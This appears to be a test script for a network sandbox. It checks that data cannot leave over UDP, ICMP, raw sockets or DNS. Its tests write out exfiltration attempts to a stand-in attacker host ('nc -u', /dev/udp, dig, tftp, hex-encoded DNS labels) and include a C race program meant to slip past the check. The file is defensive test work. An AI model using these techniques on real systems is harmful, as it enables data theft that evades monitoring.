# limit: 90
# nightly: strict
# needs: root
# Ways out by datagrams, by other packets and by what a name server hears, each of which gets through bare, in
# an internet of their own (netlab.sh).  What arrived outside is the ground truth.
. "$T_LIB"
. "$(dirname "$T_LIB")/netlab.sh"

# --- over datagrams ------------------------------------------------------------------------------------------

t_datagrams() {
	lab
	own_host
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'secret', ('$EVIL', 4444))")" connect "$EVIL:4444"
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('$EVIL', 443))
s.send(b'secret')")" connect "$EVIL:443"
	evades "$(py "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b'secret', ('$EVIL6', 4444))")" connect
	evades "$(py "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b'secret', ('::ffff:$EVIL', 7777))")" connect
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendmsg([b'secret'], [], 0, ('$EVIL', 7777))")" connect
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('$LAB_DNS', 53))
s.sendto(b'secret', ('$EVIL', 7777))")" connect
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(b'secret', ('$LAB_NET.255', 4444))")" connect
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'secret', ('224.0.0.251', 5353))")" connect
	evades "$(py "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b'secret', ('ff02::fb', 5353, 0, socket.if_nametoindex('wire')))")" connect
	evades "curl -sS -m 1 tftp://$EVIL/secret" connect "$EVIL:69"
	evades "echo secret >/dev/udp/$EVIL/4444" connect
	evades "echo secret | nc -u -w 1 $EVIL 4444" connect
	# A name that may be connected to is no leave for datagrams.
	run bash -c "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'x', ('own.example', 7777))")"
	reached udp $GOOD 7777
	stopped "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'x', ('own.example', 7777))")" connect
	not_reached udp $GOOD
}

t_udp_rule() {
	lab
	own_host 'udp = own.example:7777'
	lab_forget
	fsh "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(b'hello', ('own.example', 7777))
print(s.recvfrom(99))
s.connect(('own.example', 7777))
s.send(b'again')
print(s.recv(99))
try:
    s.sendto(b'no', ('own.example', 4444))
except OSError as e:
    print(e.strerror)")"
	out_is "(b'echo hello', ('$GOOD', 7777))
b'echo again'
Permission denied"
	reached udp $GOOD 7777
	not_reached udp $GOOD 4444
	only_the_good
	recorded connect allow own.example:7777
}

t_other_packets() {
	lab
	own_host
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b'\\\\x08' + b'\\\\0' * 7 + b'secret', ('$EVIL', 1))")"
	evades "$(py "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
s.sendto(b'\\\\x80' + b'\\\\0' * 7 + b'secret', ('$EVIL6', 1))")"
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
s.sendto(b'secret', ('$EVIL', 4444))")"
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.connect(('$EVIL', 4444))")"
	evades "$(py "s = socket.socket()
s.sendto(b'GET /hello HTTP/1.0\\\\r\\\\n\\\\r\\\\n', 0x20000000, ('$EVIL', 80))")"
	# A source route would lead where the address does not.
	stopped "$(py "s = socket.socket()
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\\\x83\\\\x07\\\\x04' + socket.inet_aton('$EVIL') + b'\\\\0')
s.connect(('own.example', 80))")"
}

# What is sent is what was judged, whoever turns the address, the message or the descriptor meanwhile.
t_turned_meanwhile() {
	lab
	need gcc
	own_host 'udp = own.example:7777'
	cat >turn.c <<-'END'
		#define _GNU_SOURCE
		#include <arpa/inet.h>
		#include <netdb.h>
		#include <pthread.h>
		#include <stdio.h>
		#include <stdlib.h>
		#include <string.h>
		#include <sys/socket.h>
		#include <time.h>
		#include <unistd.h>
		static volatile struct sockaddr_in to;
		static in_addr_t good, evil;
		static int fd, lines[2];
		static void *turn_address(void *p)
		{
			for (;;)
				to.sin_addr.s_addr = good, to.sin_addr.s_addr = evil;
			return p;
		}
		static void *turn_descriptor(void *p)
		{
			for (;;)
				dup2(lines[0], fd), dup2(lines[1], fd);
			return p;
		}
		int main(int n, char **arg)
		{
			struct sockaddr *name = (struct sockaddr *)&to;
			time_t end = time(NULL) + 2;
			struct hostent *h = gethostbyname("own.example");
			unsigned long sent = 0, tried = 0;
			pthread_t t;
			if (n != 3 || !h)
				return puts("no name"), 2;
			memcpy(&good, h->h_addr_list[0], 4);
			evil = inet_addr(arg[2]);
			to.sin_family = AF_INET;
			to.sin_port = htons(7777);
			to.sin_addr.s_addr = strcmp(arg[1], "address") == 0 ? good : evil;
			lines[0] = socket(AF_INET, SOCK_DGRAM, 0);
			lines[1] = socket(AF_INET, SOCK_STREAM, 0);
			fd = dup(lines[0]);
			pthread_create(&t, NULL, strcmp(arg[1], "address") == 0 ? turn_address : turn_descriptor, NULL);
			for (; time(NULL) < end; tried++) {
				struct iovec text = { "x", 1 };
				struct mmsghdr m = { { name, sizeof(to), &text, 1, NULL, 0, 0 }, 0 };
				ssize_t got = tried % 3 == 0 ? sendto(fd, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL, name, sizeof(to)) :
					      tried % 3 == 1 ? sendmsg(fd, &m.msg_hdr, MSG_DONTWAIT | MSG_NOSIGNAL) :
							       sendmmsg(fd, &m, 1, MSG_DONTWAIT | MSG_NOSIGNAL);
				sent += got > 0;
				if (tried % 16 == 0) {
					close(lines[0]);
					lines[0] = socket(AF_INET, SOCK_DGRAM, 0);
				}
			}
			printf("%s %s\n", tried > 100 ? "tried" : "idle", sent ? "sent" : "nothing");
			return 0;
		}
	END
	gcc -O1 -pthread -o turn turn.c && gcc -O1 -pthread -static -o turn-static turn.c 2>/dev/null || fail "gcc"
	run ./turn address $EVIL
	out_is "tried sent"
	reached udp $EVIL 7777
	lab_forget
	for n in ./turn ./turn-static; do
		fence $n address $EVIL
		out_is "tried sent"
		reached udp $GOOD 7777
		fence $n descriptor $EVIL
		out_has tried
	done
	only_the_good
}

# --- by name server ------------------------------------------------------------------------------------------

t_other_name_servers() {
	lab
	own_host
	evades "dig @$EVIL +tries=1 +time=2 secret.evil.example" resolve secret.evil.example
	evades "dig @$EVIL6 +tries=1 +time=2 secret.evil.example"
	evades "dig @$EVIL +tcp +tries=1 +time=2 secret2.evil.example" resolve secret2.evil.example
	evades "dig @$EVIL -p 4444 +tries=1 +time=2 secret.evil.example" connect "$EVIL:4444"
	evades "dig @$EVIL +tcp -p 853 +tries=1 +time=2 secret.evil.example" connect "$EVIL:853"
	evades "busybox nslookup -timeout=2 secret3.evil.example $EVIL" resolve secret3.evil.example
	# Whoever is asked, it is the forwarder that answers.
	fence dig @$EVIL +short +tries=1 +time=3 own.example
	out_is $GOOD
	fence dig @$EVIL +short +tcp +tries=1 +time=3 own.example
	out_is $GOOD
	# What is no question goes nowhere.
	evades "$(py "s = socket.create_connection(('$EVIL', 53), 3)
s.sendall(b'GET /secret HTTP/1.0\\\\r\\\\n\\\\r\\\\n')
s.recv(99)")"
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'secret', ('$EVIL', 53))")"
	only_the_good
	# The name server's other ports are nobody's.
	stopped "$(py "socket.create_connection(('$LAB_DNS', 80), 3)")" connect "$LAB_DNS:80"
}

# The name server must not hear what is not to be asked: neither in the name nor beside it.
t_exfiltration() {
	lab
	own_host
	local secret=4d7920736563726574 n
	run dig +short +tries=1 +time=2 $secret.exfil.example
	asked $secret.exfil.example
	lab_forget
	stopped "dig +tries=1 +time=2 $secret.exfil.example" resolve $secret.exfil.example
	stopped "dig +tries=1 +time=2 $secret.exfil.example TXT"
	stopped "dig +tcp +tries=1 +time=2 $secret.exfil.example AAAA"
	stopped "getent hosts $secret.exfil.example"
	stopped "node -e \"require('dns').resolve('$secret.exfil.example', () => 0)\""
	stopped "curl -sS -m 3 http://$secret.exfil.example/"
	stopped "dig +tries=1 +time=2 -x 45.33.32.66"
	stopped "dig +tries=1 +time=2 -x 10.1.2.3"
	stopped "dig +tries=1 +time=2 own.example CH TXT"
	stopped "dig +tries=1 +time=2 own.example ANY"
	! queries | grep -q . || fail "was asked: $(queries)"
	! grep -qiE "$secret|in-addr" <(tail -n +$((LAB_QUERIES + 1)) "$LAB/dns.log") || fail "the secret came out"
	# Options, cookies, a client's subnet and what follows the question stay here.
	fence dig +tries=1 +time=3 +ednsopt=65001:$secret +subnet=77.66.55.0/24 +cookie=1122334455667788 own.example
	lab_settle
	! grep -qiE "$secret|1122334455667788|4d4237" "$LAB/raw.log" || fail "what was beside the question came out"
	out_has $GOOD
	# Nor does the spelling say anything: it is the forwarder's own.
	fence dig +short +tries=1 +time=3 LOnG.oWN.exAMplE TXT
	! grep -qF LOnG.oWN.exAMplE "$LAB/dns.log" || fail "the client's spelling was asked for"
	# Below a wildcard a name may not carry more than a name.
	lab_forget
	run dig +short +tries=1 +time=2 $(printf %060d 1).$(printf %060d 2).$(printf %060d 3).wild.own.example
	queries | grep -q 0000 || fail "bare, the long name is not asked for"
	lab_forget
	stopped "dig +tries=1 +time=2 \
$(printf %060d 1).$(printf %060d 2).$(printf %060d 3).wild.own.example" resolve wild.own.example
	! queries | grep -q 0000 || fail "a name that carries more than a name was asked for"
}

# A word a label, hundreds of them: a rate that no program has.
t_exfiltration_by_many() {
	lab
	own_host
	local n
	lab_forget
	fsh 'for i in {1..400}; do echo "w$i.wild.own.example"; done >names
		dig +short +tries=1 +time=2 -f names >/dev/null'
	n=$(queries | grep -c '^w[0-9]*\.wild')
	[ "$n" -gt 5 ] || fail "not even a few are looked up"
	[ "$n" -lt 300 ] || fail "the name server was asked for $n of 400"
	recorded resolve deny wild.own.example
}

scenario "$@"
